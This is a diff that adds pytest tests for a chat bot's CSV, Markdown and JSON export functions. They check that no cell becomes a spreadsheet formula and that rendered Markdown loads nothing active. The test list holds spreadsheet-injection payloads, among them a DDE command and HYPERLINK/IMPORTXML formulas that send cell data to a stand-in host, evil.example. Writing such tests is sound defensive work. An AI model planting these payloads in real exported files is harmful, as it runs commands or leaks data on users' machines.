@@ -2,15 +2,19 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 
 import pytest
+from markdown_it import MarkdownIt
 
 from bot.chat.answers import LiveAnswer, LiveTurn
-from bot.chat.export import as_json, as_markdown
+from bot.chat.export import as_csv, as_json, as_markdown
 from bot.chat.fingerprint import Fingerprint
 from tests.chat.scene import FOUND
+from tests.payloads import PAYLOADS
 
 
 def turn(question: str = "What does it cost?", text: str = "Nine hundred.") -> LiveTurn:
@@ -100,3 +104,122 @@ def test_a_failed_answer_says_why() -> None:
     failed.answers["rag"].error, failed.answers["rag"].cure = "It broke.", "Try again."
     assert "### RAG (failed)\n\n> It broke. Try again." in as_markdown("Prices", [failed])
     assert json.loads(as_json("P", [failed]))["turns"][0]["answers"][0]["error"] == "It broke."
+
+
+def rows_of(table: str, delimiter: str = ",") -> list[list[str]]:
+    """What a spreadsheet reads."""
+    return list(
+        csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline=""), delimiter=delimiter)
+    )
+
+
+def test_a_table_has_one_answer_a_row() -> None:
+    asked = turn("What does it cost?", 'Nine "hundred",\nor so.')
+    asked.answers["rag"].vote = -1
+    table = as_csv([asked, turn("And the next?")])
+    assert table.encode().startswith(b"\xef\xbb\xbf")
+    head, first, second = rows_of(table)
+    assert dict(zip(head, first, strict=True)) == {
+        "question": "What does it cost?",
+        "asked_at": "",
+        "strategy": "rag",
+        "model": "",
+        "status": "complete",
+        "answer": 'Nine "hundred",\nor so.',
+        "sources": "prices.md, Kilns, page 2",
+        "first_token_seconds": "0.25",
+        "total_seconds": "1.5",
+        "prompt_tokens": "80",
+        "answer_tokens": "12",
+        "cost_dollars": "",
+        "vote": "down",
+        "error": "",
+    }
+    assert second[0] == "And the next?"
+
+
+LIVE = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1)",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    '=IMPORTXML("http://evil.example","//a")',
+    "\t=1+1",
+    "\r=1+1",
+    "\n\n=1+1",
+    "\r\n=1+1",
+    "   =1+1",
+    "\xa0=1+1",
+    "'=1+1",
+    '"=1+1"',
+    "' \"=1+1",
+    "`=1+1",
+    "\ufeff=1+1",
+    "\u200b=1+1",
+    "\u2060\u200e=1+1",
+    "\x00=1+1",
+    "\x1b=1+1",
+    "\u202e=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    "−1+1",
+    "﹦1+1",
+    "fine\n=1+1",
+    "fine\r=1+1",
+    "fine\u2028=1+1",
+    "fine;=1+1",
+    "fine; =1+1;+2",
+    "fine\t@x",
+    'fine";"=1+1',
+    '","=1+1","',
+]
+
+
+@pytest.mark.parametrize("hostile", LIVE)
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_no_cell_of_a_table_is_a_formula(hostile: str, delimiter: str) -> None:
+    asked = turn(hostile, hostile)
+    asked.answers["rag"].model = asked.answers["rag"].error = hostile
+    for row in rows_of(as_csv([asked]), delimiter):
+        for cell in row:
+            for line in re.split(r"[\n\r]", cell):
+                bare = line.strip(' \t"`\xa0\ufeff\u200b\u2060\u200e')
+                assert not re.match(r"[=+\-@＝＋－＠−﹦]", bare), (cell, delimiter)
+
+
+def test_harmless_text_comes_back_from_a_table_as_it_was() -> None:
+    written = 'Café, "1,260 °C"\n\nA = B; see a-b@c.example and 3 + 4\n* one'
+    assert rows_of(as_csv([turn(written, written)]))[1][5] == written
+
+
+@pytest.mark.parametrize("hostile", PAYLOADS)
+def test_rendered_markdown_loads_nothing_and_links_to_the_web_only(hostile: str) -> None:
+    page = as_markdown(hostile, [turn(hostile, hostile)])
+    for renderer in (MarkdownIt("commonmark", {"html": True}), MarkdownIt("js-default")):
+        shown = renderer.render(page)
+        tags = set(re.findall(r"<(\w+)", shown))
+        assert tags <= {
+            "h1",
+            "h2",
+            "h3",
+            "p",
+            "blockquote",
+            "ul",
+            "ol",
+            "li",
+            "a",
+            "code",
+            "em",
+        } | {*("strong", "br", "hr", "table", "thead", "tbody", "tr", "th", "td", "pre", "s")}
+        assert not re.findall(r'href="(?!https?://)[^"]*"', shown)
+
+
+@pytest.mark.parametrize("hostile", PAYLOADS)
+def test_json_brings_hostile_text_back_unchanged(hostile: str) -> None:
+    document = json.loads(as_json(hostile, [turn(hostile, hostile)]))
+    assert document["title"] == document["turns"][0]["question"] == hostile
+    assert document["turns"][0]["answers"][0]["text"] == hostile
